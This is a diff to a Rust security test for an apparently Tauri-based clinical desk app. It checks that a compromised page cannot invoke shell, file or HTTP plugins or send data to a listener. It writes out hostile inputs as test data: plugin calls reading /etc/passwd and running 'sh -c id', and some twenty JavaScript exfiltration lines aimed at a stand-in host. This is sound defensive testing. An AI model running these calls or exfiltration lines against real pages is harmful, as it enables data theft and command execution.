@@ -5,7 +5,9 @@
 use std::path::{Path, PathBuf};
 
 use anyhow::{Result, ensure};
-use serde_json::json;
+use serde_json::{Value as Json, json};
+use wardroom_tests::attack::commands::calls;
+use wardroom_tests::attack::traces::Needles;
 use wardroom_tests::district::District;
 use wardroom_tests::net::link::Link;
 use wardroom_tests::place::program;
@@ -207,11 +209,7 @@ async fn register(window: &Window, name: &str) -> Result<()> {
 /// Chooses in a box that is searched by typing.
 async fn choose(window: &Window, field: &str, typed: &str) -> Result<()> {
     let input = window.find(&format!("[data-field=\"{field}\"] input")).await?;
-    let ready = "arguments[0].focus(); arguments[0].select()";
-    window
-        .client
-        .execute(ready, vec![serde_json::to_value(&input)?])
-        .await?;
+    window.select(&input).await?;
     window.keys(typed).await?;
     // The list is narrowed to what was typed; its first line is taken by keys.
     let other = format!("//*[@role='option'][not(contains(., '{typed}'))]");
@@ -379,4 +377,139 @@ async fn a_wrong_password_is_told_and_a_lock_hides_everything_at_once() -> Resul
         .await?;
     ensure!(page == json!(true), "the page is still there after the lock");
     window.close().await
+}
+
+/// What a page that was taken over would call beside the desk's own commands: other plugins, and what of the window is
+/// not for it.
+const FOREIGN: &[(&str, &str)] = &[
+    ("plugin:shell|open", r#"{"path":"/etc/passwd"}"#),
+    ("plugin:shell|execute", r#"{"program":"sh","args":["-c","id"]}"#),
+    ("plugin:opener|open_path", r#"{"path":"/etc/passwd"}"#),
+    ("plugin:fs|read_text_file", r#"{"path":"/etc/passwd"}"#),
+    ("plugin:fs|write_text_file", r#"{"path":"/tmp/x","contents":"x"}"#),
+    (
+        "plugin:http|fetch",
+        r#"{"clientConfig":{"method":"GET","url":"http://127.0.0.1/"}}"#,
+    ),
+    ("plugin:path|resolve_directory", r#"{"directory":1}"#),
+    ("plugin:app|name", "{}"),
+    ("plugin:event|emit", r#"{"event":"notice","payload":{}}"#),
+    (
+        "plugin:event|emit_to",
+        r#"{"target":{"kind":"Any"},"event":"notice","payload":{}}"#,
+    ),
+    (
+        "plugin:webview|create_webview_window",
+        r#"{"options":{"label":"x","url":"https://example.org"}}"#,
+    ),
+    ("plugin:webview|internal_toggle_devtools", "{}"),
+    ("plugin:window|create", r#"{"options":{"label":"x"}}"#),
+    ("plugin:window|hide", r#"{"label":"main"}"#),
+    ("plugin:window|set_title", r#"{"label":"main","value":"x"}"#),
+    ("plugin:resources|close", r#"{"rid":0}"#),
+    ("plugin:image|from_path", r#"{"path":"/etc/passwd"}"#),
+    ("plugin:menu|new", r#"{"kind":"Menu","options":{},"handler":0}"#),
+    ("plugin:tray|new", r#"{"options":{},"handler":0}"#),
+    ("__proto__", "{}"),
+    ("desk::open", "{}"),
+];
+
+/// Ways in which a page sends something out, or goes where it is not ours; `WHERE` stands for a server that listens.
+const WAYS_OUT: &[&str] = &[
+    "fetch('WHERE/fetch', { method: 'POST', body: document.body.innerText }).catch(() => 0)",
+    "new XMLHttpRequest().open('GET', 'WHERE/xhr')",
+    "const asked = new XMLHttpRequest(); asked.open('GET', 'WHERE/xhr'); asked.send()",
+    "navigator.sendBeacon && navigator.sendBeacon('WHERE/beacon', document.body.innerText)",
+    "new WebSocket('WHERE/socket'.replace('http', 'ws'))",
+    "new EventSource('WHERE/events')",
+    "new Image().src = 'WHERE/image'",
+    "document.head.appendChild(Object.assign(document.createElement('script'), { src: 'WHERE/script' }))",
+    "document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'WHERE/style' }))",
+    "document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'WHERE/fetched' }))",
+    "document.body.appendChild(Object.assign(document.createElement('iframe'), { src: 'WHERE/frame' }))",
+    "document.body.appendChild(Object.assign(document.createElement('object'), { data: 'WHERE/object' }))",
+    "const form = document.createElement('form'); form.action = 'WHERE/form'; document.body.appendChild(form); form.submit()",
+    "document.body.style.backgroundImage = 'url(WHERE/background)'",
+    "new FontFace('x', 'url(WHERE/font)').load().catch(() => 0)",
+    "new Worker('WHERE/worker')",
+    "window.open('WHERE/window')",
+    "const link = document.createElement('a'); link.href = 'WHERE/link'; link.click()",
+    "const file = document.createElement('a'); file.href = 'WHERE/file'; file.download = 'x'; file.click()",
+    "const refresh = document.createElement('meta'); refresh.httpEquiv = 'refresh'; refresh.content = '0;url=WHERE/refresh'; document.head.appendChild(refresh)",
+    "location.href = 'WHERE/gone'",
+    "location.href = 'file:///etc/passwd'",
+    "location.href = 'data:text/html,gone'",
+];
+
+/// Calls one after the other from within the page. Answers, for each, whether it was answered with something, and what
+/// was said.
+async fn call_all(window: &Window, calls: &[(String, Json)]) -> Result<Vec<(bool, String)>> {
+    let script = "const [calls, done] = arguments;
+        (async () => {
+            const heard = [];
+            for (const [name, args] of calls) {
+                try { heard.push([true, JSON.stringify(await window.__TAURI_INTERNALS__.invoke(name, args)) ?? '']); }
+                catch (refused) { heard.push([false, typeof refused === 'string' ? refused : JSON.stringify(refused)]); }
+            }
+            done(heard);
+        })()";
+    let heard = window
+        .client
+        .execute_async(script, vec![serde_json::to_value(calls)?])
+        .await?;
+    Ok(serde_json::from_value(heard)?)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_that_was_taken_over_gets_no_further_than_its_person_and_sends_nothing_out() -> Result<()> {
+    let folder = tempfile::tempdir()?;
+    let district = District::new(&folder.path().join("server")).await?;
+    let link = Link::new(district.address).await?;
+    let window = Window::open(&folder.path().join("a")).await?;
+    join(&window, &link, &district, "ICU desk").await?;
+    sign_in(&window, "anju").await?;
+    register(&window, "Kunjukunju Thankamani").await?;
+    let patient = window.client.execute("return location.hash.slice(1)", vec![]).await?;
+    link.cut();
+
+    let mut hostile: Vec<(String, Json)> = calls().into_iter().step_by(23).collect();
+    hostile.retain(|(name, _)| !["stand_alone", "join", "rejoin"].contains(&name.as_str()));
+    ensure!(hostile.len() > 30, "hardly any call: {}", hostile.len());
+    for (answer, (name, _)) in call_all(&window, &hostile).await?.iter().zip(&hostile) {
+        let (is_answered, said) = answer;
+        ensure!(!said.contains("panic"), "{name}: {said}");
+        ensure!(!(*is_answered && name == "sign_in"), "{name} was answered");
+    }
+    let foreign = FOREIGN
+        .iter()
+        .map(|(name, args)| Ok(((*name).to_owned(), serde_json::from_str(args)?)));
+    let foreign = foreign.collect::<Result<Vec<(String, Json)>>>()?;
+    for (answer, (name, _)) in call_all(&window, &foreign).await?.iter().zip(&foreign) {
+        ensure!(!answer.0, "{name} was answered: {}", answer.1);
+    }
+
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+    let place = format!("http://{}", listener.local_addr()?);
+    for way in WAYS_OUT {
+        let script = format!("try {{ {} }} catch (refused) {{}}", way.replace("WHERE", &place));
+        window.client.execute(&script, vec![]).await?;
+        let came = tokio::time::timeout(std::time::Duration::from_millis(400), listener.accept()).await;
+        ensure!(came.is_err(), "it got out: {way}");
+        window
+            .holds("return location.host === 'localhost' && document.querySelector('#page') !== null")
+            .await?;
+    }
+
+    window.go(patient.as_str().unwrap_or_default()).await?;
+    window.says("Kunjukunju Thankamani").await?;
+    window.says("Anju Thomas").await?;
+    window.close().await?;
+    let needles = Needles::new([
+        "Kunjukunju".to_owned(),
+        "Thankamani".to_owned(),
+        sample::PASSWORD.to_owned(),
+    ])?;
+    let found = needles.search(folder.path())?;
+    ensure!(found.places.is_empty(), "{:?}", found.places);
+    Ok(())
 }
